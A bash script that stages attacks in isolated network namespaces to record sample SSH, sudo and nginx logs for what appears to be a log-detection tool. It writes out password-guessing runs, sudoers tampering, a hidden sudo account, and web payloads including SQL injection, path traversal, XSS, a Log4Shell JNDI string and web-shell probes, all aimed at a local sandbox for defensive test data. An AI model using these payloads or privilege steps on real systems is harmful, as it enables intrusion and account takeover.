#!/usr/bin/env bash
# Records the sample logs on a real system: an sshd that is attacked, sudo that is abused, accounts that are made, an
# nginx that is scanned and probed. Everything runs in namespaces of its own (network, host name, mounts), so the
# machine keeps its accounts, its /etc and its addresses. Attackers get addresses of the documentation ranges.
#
#   sudo samples/record/record.sh OUT_DIR       needs: openssh-server sshpass sudo nginx rsyslog iproute2 curl
set -euo pipefail
out=$(realpath -m "${1:?usage: record.sh OUT_DIR}")
here=$(dirname "$(realpath "$0")")
mkdir -p "$out"

if [ "${TOCSIN_RECORD_STAGE:-}" != inside ]; then
  trap 'for ns in tocsin-web tocsin-evil tocsin-scan tocsin-user; do ip netns del "$ns" 2>/dev/null || true; done; ip link del tocsin-br 2>/dev/null || true' EXIT
  ip link add tocsin-br type bridge
  ip link set tocsin-br up
  connect() { # namespace, address
    ip netns add "$1"
    ip link add "v-${1#tocsin-}" type veth peer name eth0 netns "$1"
    ip link set "v-${1#tocsin-}" master tocsin-br up
    ip -n "$1" addr add "$2/32" dev eth0
    ip -n "$1" link set eth0 up
    ip -n "$1" link set lo up
    ip -n "$1" route add 192.0.2.0/24 dev eth0
    ip -n "$1" route add 198.51.100.0/24 dev eth0
    ip -n "$1" route add 203.0.113.0/24 dev eth0
  }
  connect tocsin-web 192.0.2.10   # the host that logs
  connect tocsin-user 192.0.2.55  # people at work
  connect tocsin-evil 203.0.113.66 # guesses passwords
  connect tocsin-scan 198.51.100.23 # scans the web server
  TOCSIN_RECORD_STAGE=inside ip netns exec tocsin-web unshare --mount --uts "$here/record.sh" "$out"
  exit 0
fi

# ── inside: the host web-1 ──────────────────────────────────────────────────────────────────────────────────────────
hostname web-1
cd /
work=$(mktemp -d)
mount -t tmpfs tmpfs "$work"
mkdir -p "$work"/{etc-up,etc-work,home,nginx,run}
mount -t overlay overlay -o "lowerdir=/etc,upperdir=$work/etc-up,workdir=$work/etc-work" /etc
mount --bind "$work/home" /home
mkdir -p /run/sshd
stop() {
  [ -f "$work/sshd.pid" ] && kill "$(cat "$work/sshd.pid")" 2>/dev/null || true
  [ -f "$work/nginx/pid" ] && kill "$(cat "$work/nginx/pid")" 2>/dev/null || true
  [ -n "${rsyslog:-}" ] && kill "$rsyslog" 2>/dev/null || true
  wait 2>/dev/null || true
  rm -f /dev/log
}
trap stop EXIT
echo '127.0.1.1 web-1' >>/etc/hosts
# Neither exists in namespaces; their complaints are no part of a real host's log.
sed -i -E '/pam_(limits|systemd)\.so/d' /etc/pam.d/*

cat >"$work/rsyslog.conf" <<CONF
module(load="imuxsock")
template(name="wire3164" type="string" string="<%PRI%>%TIMESTAMP% %HOSTNAME% %syslogtag%%msg:::sp-if-no-1st-sp%%msg:::drop-last-lf%\n")
authpriv.*;auth.* action(type="omfile" file="$work/auth.log" template="wire3164")
authpriv.*;auth.* action(type="omfile" file="$work/auth-5424.log" template="RSYSLOG_SyslogProtocol23Format")
CONF
rsyslogd -n -f "$work/rsyslog.conf" -i "$work/rsyslog.pid" &
rsyslog=$!
for _ in $(seq 50); do [ -S /dev/log ] && break; sleep 0.1; done

useradd --create-home --shell /bin/bash anna
useradd --create-home --shell /bin/bash mallory
useradd --create-home --shell /bin/bash deploy
echo 'anna:correct horse battery' | chpasswd
echo 'mallory:letmein' | chpasswd
echo 'deploy:Summer2026!' | chpasswd
echo 'anna ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/anna
chmod 440 /etc/sudoers.d/anna
: >"$work/auth.log"
: >"$work/auth-5424.log"

ssh-keygen -q -t ed25519 -N '' -f "$work/hostkey"
cat >"$work/sshd_config" <<CONF
Port 22
ListenAddress 192.0.2.10
HostKey $work/hostkey
PidFile $work/sshd.pid
UsePAM yes
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin no
MaxAuthTries 6
SyslogFacility AUTH
LogLevel INFO
UseDNS no
CONF
/usr/sbin/sshd -f "$work/sshd_config"
nsenter_ssh() { # namespace, user, password, command
  ip netns exec "$1" sshpass -p "$3" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 \
    -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o LogLevel=ERROR "$2@192.0.2.10" "$4" >/dev/null 2>&1 || true
}

# An ordinary morning.
nsenter_ssh tocsin-user anna 'correct horse battery' 'uptime'
su anna -c 'sudo -n apt-get --version' >/dev/null
su anna -c 'sudo -n systemctl --version' >/dev/null 2>&1 || true

# Somebody guesses: unknown users, root, then one account until it opens.
for user in admin oracle test ubuntu pi; do nsenter_ssh tocsin-evil "$user" 123456 id; done
for password in root toor 123456; do nsenter_ssh tocsin-evil root "$password" id; done
for password in deploy Deploy1 Password1 Welcome1 Summer2025 Spring2026; do nsenter_ssh tocsin-evil deploy "$password" id; done
nsenter_ssh tocsin-evil deploy 'Summer2026!' 'id; cat /etc/passwd >/dev/null'
# A person mistypes once: not an attack.
nsenter_ssh tocsin-user anna 'correct horse batery' 'uptime'
nsenter_ssh tocsin-user anna 'correct horse battery' 'uptime'

# sudo: refused, guessed, abused.
su mallory -c 'echo letmein | sudo -S cat /etc/shadow' >/dev/null 2>&1 || true
su mallory -c 'printf "a\nb\nc\n" | sudo -S id' >/dev/null 2>&1 || true
su anna -c 'sudo -n cat /etc/shadow' >/dev/null
su anna -c 'sudo -n /bin/bash -c id' >/dev/null
su anna -c 'sudo -n sh -c "echo mallory ALL=\(ALL\) NOPASSWD: ALL > /etc/sudoers.d/mallory"' >/dev/null
# Accounts: a new one, into the sudo group, a password change, one removed.
su anna -c 'sudo -n useradd -m -s /bin/bash svc-backup' >/dev/null
su anna -c 'sudo -n usermod -aG sudo svc-backup' >/dev/null
su anna -c 'echo svc-backup:Hidden1234 | sudo -n chpasswd' >/dev/null
su anna -c 'sudo -n groupadd ops' >/dev/null
su anna -c 'sudo -n userdel -r deploy' >/dev/null 2>&1 || true

# A web server with a site, scanned and probed.
mkdir -p "$work/nginx/site/docs"
echo '<h1>web-1</h1>' >"$work/nginx/site/index.html"
echo 'manual' >"$work/nginx/site/docs/index.html"
cat >"$work/nginx/nginx.conf" <<CONF
user root;
pid $work/nginx/pid;
error_log $work/nginx/error.log warn;
events {}
http {
  access_log $work/nginx/access.log combined;
  server { listen 192.0.2.10:80; root $work/nginx/site; location /login { return 401; } location /search { return 200 "ok"; } }
}
CONF
nginx -c "$work/nginx/nginx.conf" -p "$work/nginx"
get() { ip netns exec "$1" curl -s -o /dev/null --path-as-is -A "$2" ${4:+"${@:4}"} "http://192.0.2.10$3" || true; }
browser='Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'
for path in / /docs/ /search?q=manual /favicon.ico /docs/ /; do get tocsin-user "$browser" "$path" -e http://192.0.2.10/; done
for path in /admin /administrator /wp-login.php /wp-admin/ /phpmyadmin/ /.git/config /.env /backup.zip /server-status /cgi-bin/test.cgi \
  /manager/html /actuator/env /config.php /db.sql /xmlrpc.php /vendor/phpunit/ /console/ /solr/ /jenkins/ /api/v1/pods /owa/ /shell.php /old/ /test/ /dump.sql; do
  get tocsin-scan 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)' "$path"
done
sql='sqlmap/1.8#stable (https://sqlmap.org)'
get tocsin-scan "$sql" "/search?q=1%27%20OR%20%271%27=%271"
get tocsin-scan "$sql" "/search?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"
get tocsin-scan "$sql" "/search?id=1;WAITFOR%20DELAY%20%270:0:5%27--"
get tocsin-scan "$browser" "/docs/../../../../etc/passwd"
get tocsin-scan "$browser" "/docs/..%2f..%2f..%2fetc%2fpasswd"
get tocsin-scan "$browser" "/download?file=....//....//etc/shadow"
get tocsin-scan "$browser" "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"
get tocsin-scan '${jndi:ldap://203.0.113.66:1389/a}' "/"
get tocsin-scan "$browser" "/shell.php?cmd=id;uname%20-a"
for _ in $(seq 12); do get tocsin-evil 'python-requests/2.32' /login -d 'user=admin&password=x'; done
get tocsin-user "$browser" /docs/

sleep 0.5
cp "$work/auth.log" "$out/web-1-auth.log"
cp "$work/auth-5424.log" "$out/web-1-auth-rfc5424.log"
cp "$work/nginx/access.log" "$out/web-1-nginx-access.log"
chmod 644 "$out"/web-1-*.log
wc -l "$out"/web-1-*.log
